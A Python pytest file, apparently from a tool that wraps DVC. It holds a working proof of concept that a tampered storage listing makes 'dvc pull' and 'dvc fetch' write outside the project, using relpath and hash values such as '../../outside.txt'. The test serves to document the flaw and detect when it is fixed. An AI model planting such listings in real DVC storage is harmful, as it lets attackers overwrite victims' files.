"""Plain `dvc pull` and `dvc fetch` write wherever the storage says: why `rib pull` exists.

Seen with DVC 3.67.1, dvc-data 3.18.3 and dvc-objects 5.2.0. DVC trusts the content of a folder's
listing (an object `.dir`): the path of an entry is joined to the folder's without a check, the hash
of an entry becomes a path in the cache without a check, and the listing is read without comparing
its MD5 with its name, whatever `verify` says.
"""

import os
import subprocess
import sys
from pathlib import Path

import pytest

pytestmark = pytest.mark.slow

FIXED = (
    "DVC has fixed this: update docs/sharing.md and docs/security.md, "
    "and see whether rib.records.pull is needed"
)
# Whoever attacks changes `storage` only.
SCRIPT = r"""
set -eu
git init -q owner && cd owner
git config user.name owner && git config user.email owner@localhost
dvc init -q && mkdir data && echo hello > data/a.txt && echo "all:" > Makefile
dvc remote add -q -d storage ../storage && dvc remote modify -q storage verify true
dvc add -q data && dvc push -q && git add . && git commit -qm data
cd .. && git clone -q owner victim && git clone -q owner second && echo precious > outside.txt

# the attacker, in the storage: another listing under the old name, and the object that it lists
listing=$(ls storage/files/md5/*/*.dir) && chmod u+w "$listing"
echo hostile > hostile && md5=$(md5sum hostile | cut -c 1-32)
mkdir -p "storage/files/md5/$(echo "$md5" | cut -c 1-2)"
cp hostile "storage/files/md5/$(echo "$md5" | cut -c 1-2)/$(echo "$md5" | cut -c 3-)"
echo "[{\"md5\": \"$md5\", \"relpath\": \"../../outside.txt\"}]" > "$listing"

# 1. the victim pulls, with verify = true
(cd victim && dvc pull -q) || true
cat outside.txt                                   # hostile

# 2. a hash that is a path; here the storage is a folder, so this file lies above it, and a server
# would serve it
echo "[{\"md5\": \"../../../../Makefile\", \"relpath\": \"a.txt\"}]" > "$listing"
echo hostile > ../Makefile
(cd second && dvc remote modify -q --local storage verify false && dvc fetch -q) || true
cat second/Makefile                               # hostile
rm ../Makefile
"""


def test_plain_dvc_pull_still_writes_outside_the_project(tmp_path):
    """If it fails, nothing is wrong here: the docs, which warn of `dvc pull`, are out of date."""
    folder = tmp_path / "above/empty"
    folder.mkdir(parents=True)
    path = os.pathsep.join([str(Path(sys.executable).parent), os.environ["PATH"]])
    environment = {**os.environ, "PATH": path, "DVC_NO_ANALYTICS": "1"}
    done = subprocess.run(
        ["sh", "-c", SCRIPT], cwd=folder, env=environment, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    assert (folder / "outside.txt").read_text() == "hostile\n", FIXED
    assert (folder / "second/Makefile").read_text() == "hostile\n", FIXED
    assert done.stdout == "hostile\nhostile\n"
